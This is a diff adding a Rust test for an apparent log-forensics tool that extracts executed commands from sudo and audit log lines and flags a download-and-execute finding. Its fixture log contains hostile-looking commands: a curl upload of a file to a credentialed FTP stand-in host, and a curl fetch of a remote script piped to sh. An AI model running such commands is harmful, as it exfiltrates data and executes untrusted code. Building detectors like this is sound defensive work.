@@ -69,3 +69,36 @@ fn a_typed_script_is_read() {
     let lines: Vec<_> = case.launches.iter().map(|launch| launch.found_in.line).collect();
     assert_eq!(lines, [Some(1), Some(6)]);
 }
+
+/// sudo and the audit system log what was run.
+#[test]
+fn recorded_commands_are_launches() {
+    let sudo = "Nov 16 22:13:20 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=";
+    let refused = "Nov 16 22:13:20 h sudo:    bob : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/ftp g.example";
+    let log = [
+        format!("{sudo}/usr/bin/ftp -n 192.0.2.6"),
+        format!("{sudo}/usr/bin/curl -T k.txt ftp://u:p@h.example/"),
+        format!("{sudo}/usr/bin/apt install ftp lftp"),
+        format!("{sudo}/usr/bin/systemctl restart vsftpd"),
+        format!("{sudo}/bin/sh -c curl -s ftp://u:p@h.example/a.sh | sh"),
+        refused.to_owned(),
+        "type=EXECVE msg=audit(1700000000.000:45): argc=2 a0=\"ftp\" a1=\"f.example\"".to_owned(),
+    ];
+    let case = case([("var/log/auth.log", log.join("\n"))]);
+    let told: Vec<_> = case
+        .launches
+        .iter()
+        .map(|launch| (launch.found_in.line, launch.command_line.as_str(), launch.would_run))
+        .collect();
+    let expected = [
+        (Some(1), "/usr/bin/ftp -n 192.0.2.6", true),
+        (Some(2), "/usr/bin/curl -T k.txt ftp://u:p@h.example/", true),
+        (Some(5), "curl -s ftp://u:p@h.example/a.sh", true),
+        (Some(6), "/usr/bin/ftp g.example", false),
+        (Some(7), "ftp f.example", true),
+    ];
+    assert_eq!(told, expected);
+    let time = case.launches[4].found_in.time.map(|time| time.to_string());
+    assert_eq!(time.as_deref(), Some("2023-11-14T22:13:20Z"));
+    assert!(case.findings.iter().any(|finding| finding.rule == "script.executes-download"));
+}
